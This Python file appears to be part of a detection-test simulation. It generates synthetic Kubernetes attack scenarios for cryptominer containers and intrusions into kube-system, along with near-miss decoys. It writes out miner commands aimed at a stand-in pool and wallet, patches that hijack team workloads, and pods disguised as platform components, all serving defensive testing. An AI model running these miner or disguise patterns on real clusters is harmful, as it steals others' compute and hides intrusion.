"""Containers that mine, and containers that do not belong into kube-system."""

from __future__ import annotations

from collections.abc import Sequence

from simulation.attacks.changes import debug, ephemeral, patched, reshape, tamper, undo
from simulation.attacks.intruders import RARE, in_use, leaked, outside
from simulation.attacks.launches import APPLY, DRY_RUN, Launch, Spec, launches
from simulation.attacks.pods import SHELL_IMAGE, WAITS, plain
from simulation.attacks.register import careful, near_miss, straight
from simulation.attacks.scene import CREATED, Scene
from simulation.clock import DAY, HOUR
from simulation.json import Json
from simulation.kubernetes.pod_specs import container, pod_spec
from simulation.kubernetes.requests import Target
from simulation.kubernetes.workloads import Workload
from simulation.labels import Variant
from simulation.platforms import Platform
from simulation.schedule import Life

MINER = "K8S_MaliciousContainerImage"
NAMED = "K8S.NODE_CryptoCoinMinerArtifacts"
MINING = "K8S.NODE_DigitalCurrencyMining"
STARTED = "K8S.NODE_CryptoCoinMinerExecution"
POOL = "stratum+tcp://pool.xmr.example:3333"
WALLET = "4" + "INVENTEDwa11et" * 6 + "INVENTEDwa"
"""Shaped as Monero's addresses are, and nobody's."""


def _mining(
    image: str, command: Sequence[str] = (), args: Sequence[str] = (), *, first: bool = False, name: str = "app"
) -> Spec:
    def spec(scene: Scene) -> Json:
        item = container(name, image, command=list(command), args=list(args), memory="512Mi", env={"THREADS": "4"})
        return pod_spec(plain(scene), initContainers=[item]) if first else pod_spec(item)

    return spec


TO_POOL = ("-o", POOL, "-u", WALLET, "-p", "x", "-k")
SCRIPT = f"apt-get -qq update; ./worker -o {POOL} -u {WALLET} --donate-level 1"
launches(
    MINER,
    Variant.STRAIGHT,
    Launch("miner-image", "A Deployment of a well-known miner's image.", _mining("docker.io/metal3d/xmrig:6.21.0"),
           "Deployment", processes=(NAMED,)),
    Launch("miner-image-everywhere", "A DaemonSet mines on every node.",
           _mining("ghcr.io/somebody/xmrig-docker:latest", ["/usr/bin/xmrig"], TO_POOL), "DaemonSet",
           processes=(NAMED, MINING, STARTED)),
    Launch("miner-by-command", "An ordinary image whose command is a miner.",
           _mining("docker.io/library/ubuntu:24.04", ["/opt/cpuminer/minerd"], ["-a", "cryptonight", *TO_POOL]),
           processes=(NAMED, MINING, STARTED)),
    Launch("miner-by-args", "An image with an innocent name whose arguments are a pool and a wallet.",
           _mining("docker.io/somebody/worker:1.4", args=TO_POOL), "Deployment",
           processes=(NAMED, MINING, STARTED)),
    Launch("miner-image-by-account", "A stolen account starts a miner's pod.",
           _mining("docker.io/servethehome/monero_cpu_minergate:latest"), account=True, processes=()),
    Launch("miner-of-ether", "A Job of a miner for graphics cards.", _mining("docker.io/somebody/nbminer:42.3"), "Job",
           processes=(NAMED,)),
)  # fmt: skip
launches(
    MINER,
    Variant.CAREFUL,
    Launch("miner-in-a-shell-text", "An ordinary image; the pool is in the middle of a shell text.",
           _mining("docker.io/library/debian:12-slim", ["sh", "-c"], [SCRIPT]), "Deployment", "thumbnailer",
           processes=(NAMED, MINING)),
    Launch("miner-by-donate-level", "Only an option of the miner tells: its name is another one, the pool a proxy.",
           _mining("docker.io/library/alpine:3.22", ["/app/kworker"],
                   ["--url=10.0.0.12:8443", "--donate-level=0", "--cpu-max-threads-hint=50"]),
           "StatefulSet", "search-index", processes=(NAMED, MINING)),
    Launch("miner-in-a-cronjob", "A CronJob mines for some minutes every hour.",
           _mining("registry.gitlab.com/somebody/xmr-stak:2.10", args=["--currency", "monero"]), "CronJob", "nightly",
           processes=(NAMED,)),
    Launch("miner-in-an-init-container", "The init container, which never ends, is the miner.",
           _mining("docker.io/somebody/lolminer@sha256:" + "5b1d" * 16, first=True, name="migrate"), "Deployment"),
    Launch("miner-in-a-replication-controller", "A ReplicationController of a miner; the registry's name has a port.",
           _mining("registry.example:5000/base/srbminer:2.8"), "ReplicationController", processes=(NAMED,)),
    Launch("miner-by-apply", "A server-side apply creates a Deployment whose arguments name a pool.",
           _mining("docker.io/library/python:3.13", ["python3", "-m", "worker"], ["--pool", POOL]), "Deployment",
           "feature-store", query=APPLY, processes=(NAMED, MINING)),
    Launch("miner-in-a-pod-template", "A PodTemplate with a miner, of which nothing is made yet.",
           _mining("docker.io/somebody/t-rex:0.26"), "PodTemplate"),
)  # fmt: skip


def _other_image(spec: Json, image: str, **fields: object) -> Json:
    first, *rest = spec["containers"]
    return {**spec, "containers": [{**first, "image": image, **fields}, *rest]}


@straight(MINER, NAMED, sources=["audit"])
def sets_a_miners_image(scene: Scene) -> Life:
    """Kubectl set image gives a team's Deployment a miner's image."""
    workload = scene.victim()
    after = _other_image(workload.spec, "docker.io/metal3d/xmrig:6.22.2")
    item = {key: after["containers"][0][key] for key in ("image", "name")}
    query = "fieldManager=kubectl-set"
    yield from tamper(scene, workload, after, patched(item), MINER, query=query, processes=(NAMED,))


@careful(MINER, NAMED, MINING, sources=["audit"])
def sets_a_miners_arguments(scene: Scene) -> Life:
    """A JSON patch leaves a team's image as it is, and gives it the command of a miner."""
    workload = scene.victim()
    command = ["/tmp/.cache/node", "--url", POOL, "--user", WALLET]  # noqa: S108  as an intruder would
    after = _other_image(workload.spec, workload.image, command=command)
    patch = [{"op": "add", "path": "/spec/template/spec/containers/0/command", "value": command}]
    yield from tamper(scene, workload, after, patch, MINER, processes=(NAMED, MINING))


@careful(MINER, NAMED, MINING, sources=["audit"])
def mines_in_an_ephemeral_container(scene: Scene) -> Life:
    """An ephemeral container of an ordinary image mines in a pod that has been there for long."""
    yield scene.pause()
    item = ephemeral(f"debugger-{scene.chance.ending(5)}", SHELL_IMAGE, command=["/bin/sh"], args=["-c", SCRIPT])
    debug(scene, leaked(scene), scene.victim(), item, MINER, processes=(NAMED, MINING))


def _named(image: str, *, env: dict[str, str] | None = None, called: str = "") -> Spec:
    def spec(scene: Scene) -> Json:
        own = image.replace("REGISTRY", scene.cluster.cast.registry)
        return pod_spec(container(called or "app", own, env=env or {"LOG_LEVEL": "info"}, memory="256Mi"))

    return spec


launches(
    MINER,
    Variant.NEAR_MISS,
    Launch("data-miner", "A team's service that mines data, by its name.", _named("REGISTRY/insights/data-miner:3.1"),
           "Deployment", "data-miner"),
    Launch("determiner", "A service whose name has a miner in it by chance.", _named("REGISTRY/tax/determiner:1.8"),
           "Deployment", "determiner"),
    Launch("process-miner", "A tool for process mining.", _named("REGISTRY/ops/process-miner-ui:0.9"), "Deployment",
           "process-miner"),
    Launch("registry-with-a-miners-name", "The registry's host is named like a coin; the image is a team's own.",
           _named("monero.example:5000/shop/receipts:2.2"), "Deployment", "receipts"),
    Launch("blocklist-of-miners", "A DNS filter is told which names to block.",
           _named("docker.io/adguard/adguardhome:v0.107.65", env={"BLOCKED": "xmrig.example,minergate.example"}),
           "Deployment", "dns-filter"),
    Launch("miner-in-dry-run", "Somebody tries out whether admission refuses a miner's image.",
           _mining("docker.io/metal3d/xmrig:6.21.0"), query=DRY_RUN),
)  # fmt: skip


# kube-system.

SYSTEM = "K8S_KubeSystemContainer"
launches(
    SYSTEM,
    Variant.STRAIGHT,
    Launch("pod-in-kube-system", "A bare pod of an ordinary image in kube-system.",
           _mining(SHELL_IMAGE, WAITS), namespace="kube-system"),
    Launch("deployment-in-kube-system", "A Deployment of an image that nobody ran there.",
           _mining("docker.io/somebody/node-agent:0.4", WAITS), "Deployment", "node-agent", "kube-system"),
    Launch("pod-in-kube-system-by-account", "A stolen account starts a pod in kube-system.",
           _mining("docker.io/library/ubuntu:24.04", WAITS), "Pod", "", "kube-system", account=True),
)  # fmt: skip
launches(
    SYSTEM,
    Variant.CAREFUL,
    Launch("looks-like-kube-proxy", "A DaemonSet whose name, and whose image's name, are those of kube-proxy.",
           _mining("docker.io/kube-proxy/kube-proxy:v1.33.5", WAITS, name="kube-proxy"), "DaemonSet",
           "kube-proxy-windows", "kube-system"),
    Launch("looks-like-the-platforms-registry", "The registry's host begins like the platform's.",
           _mining("registry.k8s.io.mirror.example/coredns/coredns:v1.12.1", WAITS, name="coredns"), "Deployment",
           "coredns-secondary", "kube-system"),
    Launch("looks-like-a-node-helper", "A CronJob that is named like a helper of the platform.",
           _mining("mcr.microsoft.example/oss/kubernetes/addon-manager:v1", WAITS), "CronJob", "node-image-gc",
           "kube-system"),
    Launch("kube-system-init-container", "The container is the platform's; its init container is not.",
           lambda scene: pod_spec(
               container("pause", "registry.k8s.io/pause:3.10", memory="16Mi"),
               initContainers=[container("setup", "docker.io/somebody/setup:1", command=["sh", "-c", "true"])],
           ), "Deployment", "autoscaler-probe", "kube-system"),
    Launch("kube-system-by-apply", "A server-side apply creates a pod with nothing but a digest.",
           _mining("quay.io/somebody/metrics@sha256:" + "9c0e" * 16, WAITS), "Pod", "metrics-probe", "kube-system",
           APPLY),
    Launch("kube-system-replication-controller", "A ReplicationController, which hardly anybody uses any more.",
           _mining("docker.io/library/busybox:1.37", WAITS), "ReplicationController", "dns-probe", "kube-system"),
)  # fmt: skip


def _dns(scene: Scene) -> Workload:
    return scene.cluster.workload("kube-system", scene.cluster.facts.dns)


@careful(SYSTEM)
def adds_a_sidecar_to_dns(scene: Scene) -> Life:
    """A strategic patch adds a container to the cluster's DNS."""
    workload = _dns(scene)
    before, side = workload.spec, container("dnstap", "docker.io/somebody/dnstap:0.3", command=WAITS, memory="32Mi")
    after = {**before, "containers": [*before["containers"], side]}
    yield from reshape(scene, leaked(scene), workload, after, patched(*before["containers"], side), SYSTEM)
    yield scene.chance.between(2 * HOUR, 8 * HOUR)
    yield from undo(scene, workload, before, after)


@careful(SYSTEM, RARE)
def debugs_dns_with_another_image(scene: Scene) -> Life:
    """A stolen account adds an ephemeral container to one of the DNS pods."""
    workload = in_use(scene)
    yield scene.pause()
    item = ephemeral("debugger", "docker.io/nicolaka/netshoot:v0.14")
    debug(scene, outside(scene, workload), _dns(scene), item, SYSTEM, RARE)


def _new_version(scene: Scene, image: str) -> Life:
    """Somebody gives the cluster's DNS another version of the same image, and takes it back two days later."""
    workload = _dns(scene)
    before, after = workload.spec, _other_image(workload.spec, image)
    item = {"image": image, "name": before["containers"][0]["name"]}
    query = "fieldManager=kubectl-set"
    yield from reshape(scene, scene.person(admin=True), workload, after, patched(item), query=query)
    yield 2 * DAY
    yield from undo(scene, workload, before, after)


@near_miss(SYSTEM)
def dns_gets_a_new_tag(scene: Scene) -> Life:
    """Another tag of the repository that DNS runs anyway."""
    repository = _dns(scene).image.partition("@")[0].rpartition(":")[0]
    yield from _new_version(scene, f"{repository}:v1.12.4")


@near_miss(SYSTEM)
def dns_is_pinned_to_a_digest(scene: Scene) -> Life:
    """The same repository, by a digest."""
    repository = _dns(scene).image.partition("@")[0].rpartition(":")[0]
    yield from _new_version(scene, f"{repository}@sha256:{'40c7' * 16}")


PLATFORM_IMAGES = {
    Platform.AKS: "mcr.microsoft.com/oss/v2/kubernetes-csi/azurefile-csi:v1.33.2",
    Platform.EKS: "602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/kube-proxy:v1.33.4-minimal",
    Platform.GKE: "gke.gcr.io/kube-proxy-amd64:v1.33.4-gke.1172000",
    Platform.SELF: "registry.k8s.io/kube-proxy:v1.33.6",
}
"""An image of each platform's own that may appear in kube-system later."""


def _platforms(scene: Scene) -> Json:
    image = PLATFORM_IMAGES[scene.cluster.platform]
    return pod_spec(container("driver", image, command=["/usr/local/bin/driver", "--v=2"], memory="64Mi"))


launches(
    SYSTEM,
    Variant.NEAR_MISS,
    Launch("platforms-own-image", "An add-on of the platform is switched on.", _platforms, "Deployment",
           "platform-driver", "kube-system"),
    Launch("new-image-elsewhere", "An image that nobody ran yet, in a namespace of its own kind.",
           _named("docker.io/grafana/grafana:12.2.0"), "Deployment", "grafana", "monitoring"),
    Launch("kube-system-in-dry-run", "Somebody tries out whether admission would take a pod in kube-system.",
           _mining(SHELL_IMAGE, WAITS), namespace="kube-system", query=DRY_RUN),
)  # fmt: skip


@near_miss(SYSTEM)
def may_not_use_kube_system(scene: Scene) -> Life:
    """Somebody of a team wants a pod in kube-system, and is refused."""
    person = scene.person()
    target = Target("Pod", "kube-system", "tools", query=CREATED, unnamed=True)
    scene.refuse(person, "create", target)
    yield 0
